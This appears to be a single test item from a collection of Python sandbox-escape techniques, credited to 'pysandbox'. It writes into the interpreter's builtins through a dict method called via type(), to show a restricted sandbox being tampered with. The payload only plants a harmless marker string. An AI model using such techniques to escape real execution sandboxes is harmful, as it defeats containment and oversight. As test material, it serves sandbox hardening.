# technique: globals()['__builtins__'] written with a dict method
# goal: bend
# source: pysandbox
b = globals()['__builtins__']
b = b if isinstance(b, dict) else b.__dict__
type(b).__setitem__(b, 'planted', 'ESCAPED builtins written')
print(planted)
